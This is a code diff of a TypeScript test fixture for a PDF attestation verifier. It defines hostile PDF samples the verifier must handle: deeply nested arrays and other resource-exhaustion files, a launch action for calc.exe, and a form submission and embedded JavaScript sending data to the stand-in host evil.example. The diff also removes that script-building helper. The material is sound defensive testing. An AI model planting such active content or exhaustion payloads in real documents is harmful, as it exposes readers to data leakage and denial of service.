@@ -1,11 +1,19 @@
-import { deflateSync } from 'node:zlib';
-import { attestationQr, createQr, type QrCode, qrPng } from '@prova/paper';
-import { PDFDocument } from '../../../src/pdf-lib.ts';
+import { attestationQr, createQr } from '@prova/paper';
 import { ATTACKS } from '../../../src/witness/attacks/attacks.ts';
-import { objectSaying, revised } from '../../../src/witness/attacks/pdf-bytes.ts';
 import { CODE, OTHER_CODE, OTHER_TOKEN, TOKEN } from './documents.ts';
-import type { Row } from './hostile-pictures.ts';
-import { catalog, EMPTY_PAGES, packedPdf, rawPdf, stream } from './raw-pdf.ts';
+import {
+  endlessForm,
+  locked,
+  manyAttachments,
+  manyPages,
+  page,
+  paintedOver,
+  remotePicture,
+  withAction,
+  withScript,
+} from './made-pages.ts';
+import { catalog, EMPTY_PAGES, packedPdf, rawPdf } from './raw-pdf.ts';
+import { type Row, unread } from './row.ts';
 import { printedPage, sealedPage } from './sealed-page.ts';
 
 const ours = attestationQr('prc', CODE);
@@ -17,11 +25,7 @@ const prey = { file: sealed, otherToken: OTHER_TOKEN, folder: '' };
 
 const accepted = (code: Row['code'] = 'names-not-compared') =>
   ({ verdict: 'accepted', code }) as const;
-const unread = (code: NonNullable<Row['code']>) => ({ verdict: 'not-judged', code }) as const;
 const shows = (file: Uint8Array | undefined) => ({ file: file ?? new Uint8Array() });
-
-const LOCK = `<${'5A'.repeat(32)}>`;
-const ID = '<00112233445566778899AABBCCDDEEFF>';
 
 /** Pages with a fault that is found at once. */
 export const HOSTILE_PAGES: readonly Row[] = [
@@ -66,6 +70,25 @@ export const HOSTILE_PAGES: readonly Row[] = [
     ...unread('qr-not-found'),
   },
   {
+    what: 'P02 twenty thousand attachments',
+    shown: shows(manyAttachments(20_000)),
+    ...unread('attachment-unreadable'),
+    or: unread('time-limit'),
+  },
+  {
+    what: 'P02 a hundred thousand pages',
+    shown: shows(manyPages(100_000)),
+    ...unread('qr-not-found'),
+  },
+  {
+    what: 'P02 arrays in arrays, a hundred thousand deep',
+    shown: shows(
+      rawPdf([catalog(`/X ${'['.repeat(100_000)}${']'.repeat(100_000)}`), ...EMPTY_PAGES]),
+    ),
+    ...unread('pdf-malformed'),
+    or: unread('qr-not-found'),
+  },
+  {
     what: 'P02 a million places for objects',
     shown: shows(packedPdf({ entries: 1_000_000 })),
     ...unread('qr-not-found'),
@@ -73,17 +96,17 @@ export const HOSTILE_PAGES: readonly Row[] = [
   { what: 'P02 a form that draws itself', shown: shows(endlessForm()), ...unread('qr-not-found') },
   {
     what: 'P03 a script that runs when it is opened',
-    shown: shows(await withScript()),
+    shown: shows(await withScript(printed)),
     ...accepted('pdf-active-content'),
   },
   {
     what: 'P03 a program to be launched',
-    shown: shows(withAction('/S /Launch /F (calc.exe)')),
+    shown: shows(withAction(printed, '/S /Launch /F (calc.exe)')),
     ...accepted('pdf-active-content'),
   },
   {
     what: 'P03 an address to be opened, and a form to be sent there',
-    shown: shows(withAction('/S /SubmitForm /F (https://evil.example/)')),
+    shown: shows(withAction(printed, '/S /SubmitForm /F (https://evil.example/)')),
     ...accepted(),
   },
   {
@@ -167,71 +190,3 @@ export const SLOW_PAGES: readonly Row[] = [
     ...unread('time-limit'),
   },
 ];
-
-function locked(): Buffer {
-  const lock = `<< /Filter /Standard /V 1 /R 2 /O ${LOCK} /U ${LOCK} /P -4 >>`;
-  return rawPdf([catalog(), ...EMPTY_PAGES, lock], `/Encrypt 4 0 R /ID [${ID} ${ID}]`);
-}
-
-function endlessForm(): Buffer {
-  return rawPdf([
-    catalog(),
-    EMPTY_PAGES[0],
-    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 50 50] /Resources 5 0 R /Contents 4 0 R >>',
-    stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources 5 0 R', Buffer.from('/X Do')),
-    '<< /XObject << /X 4 0 R >> >>',
-  ]);
-}
-
-/** The page with a script of the document, which runs where anybody runs it. */
-async function withScript(): Promise<Uint8Array> {
-  const document = await PDFDocument.load(printed);
-  document.addJavaScript('hit', 'app.alert("hit"); this.submitForm("https://evil.example/");');
-  return document.save();
-}
-
-/** The page with something that shall happen when it is opened. */
-function withAction(action: string): Buffer {
-  const root = objectSaying(printed, '/Type /Catalog');
-  const body = root.body.replace('/Type /Catalog', `/Type /Catalog /OpenAction << ${action} >>`);
-  return revised(printed, [{ ...root, body }]);
-}
-
-function remotePicture(): Buffer {
-  const file = '/F << /FS /URL /F (https://evil.example/x.jpg) >> /FFilter /DCTDecode';
-  return rawPdf([
-    catalog(),
-    EMPTY_PAGES[0],
-    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >> /Contents 4 0 R >>',
-    stream('', Buffer.from('/X Do')),
-    stream(
-      `/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 ${file}`,
-      new Uint8Array(),
-    ),
-  ]);
-}
-
-/** A page with these codes, with a token attached, and with something written on it. */
-async function page(codes: readonly QrCode[], token?: string, words?: string): Promise<Uint8Array> {
-  const document = await PDFDocument.create();
-  const sheet = document.addPage([350, 50 + 300 * Math.max(1, codes.length)]);
-  for (const [index, code] of codes.entries()) {
-    const picture = await document.embedPng(qrPng(code, 4));
-    sheet.drawImage(picture, { x: 50, y: 50 + 300 * index, width: 250, height: 250 });
-  }
-  if (words !== undefined) sheet.drawText(words, { x: 50, y: 20 });
-  if (token !== undefined) await document.attach(Buffer.from(token), 'credential.jws');
-  return document.save();
-}
-
-/** A small file that takes long to draw, and holds nothing. */
-function paintedOver(times: number): Buffer {
-  const shade = '/S gs 0 0 500 700 re f\n';
-  const data = deflateSync(Buffer.from(shade.repeat(times)));
-  return rawPdf([
-    catalog(),
-    EMPTY_PAGES[0],
-    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 500 700] /Resources << /ExtGState << /S << /ca 0.01 /BM /Luminosity >> >> >> /Contents 4 0 R >>',
-    stream('/Filter /FlateDecode', data),
-  ]);
-}
